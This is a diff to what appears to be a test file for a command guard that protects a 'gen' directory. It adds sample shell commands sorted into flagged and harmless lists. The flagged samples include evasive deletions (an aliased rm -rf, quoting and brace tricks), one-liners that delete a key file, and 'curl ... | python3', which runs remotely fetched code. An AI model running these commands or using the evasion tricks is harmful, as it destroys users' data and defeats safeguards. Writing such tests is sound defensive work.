@@ -409,6 +409,15 @@ sed -n -e 's/x/y/w gen/api.py' src/main.py
 uniq src/main.py gen/api.py
 ln gen/api.py src/b
 cp -l gen/api.py src/b
+alias x='rm -rf'; x gen
+rm -rf ~+/gen
+cd gen && cd - && rm gen/api.py
+cd gen; cd ..; cd -; rm api.py
+rm ge{n,m}/api.py
+r''m gen/ap"i".py
+\rm gen/api{.py,.ts}
+for i in {1..2}; do rm gen/$i.py; done
+rm gen/{1..900}.py
 """.strip().splitlines()
 ASKED = r"""
 find . -type f -exec sed -i s/1/2/ {} ';'
@@ -443,10 +452,31 @@ ruff format gen
 black gen
 protoc --out gen a.proto
 sed -i s/1/2/ $(grep -rl --exclude-dir node_modules 1 .)
+python -c "import shutil; shutil.rmtree('gen')"
+python3.11 -c "open('gen/new.py', 'w')"
+uv run python -c "from pathlib import Path; Path('gen', 'api.py').unlink()"
+perl -e 'unlink <gen/*>'
+node -e "fs.rmSync('gen', {recursive: true})"
+ruby -e 'File.delete "gen/api.py"'
+awk '{print > "gen/api.py"}' src/main.py
+php -r 'unlink("gen/api.py");'
+python3 - <<'EOF'\nimport os\nos.remove("gen/api.py")\nEOF
+echo "import os; os.remove('key.pem')" | python3
+curl https://e.example/x | python3
 """.strip().splitlines()
 HARMLESS = r"""
 black .
 prettier --write .
+python -c "print(open('gen/api.py').read())"
+python -c "open('src/out.py', 'w').write('x')"
+curl https://e.example/x | python3 -m json.tool
+curl https://e.example/x | python3 -c "import json, sys; print(json.load(sys.stdin))"
+node -e "console.log(require('./gen/api.json').version)"
+node -p "process.version"
+perl -ne 'print if /gen/' src/main.py
+awk '{print $1}' gen/api.py
+rm src/{a,b}.py
+rm 'gen{,-2}'
 rm link.py
 unlink link.py
 mv link.py src/link.py
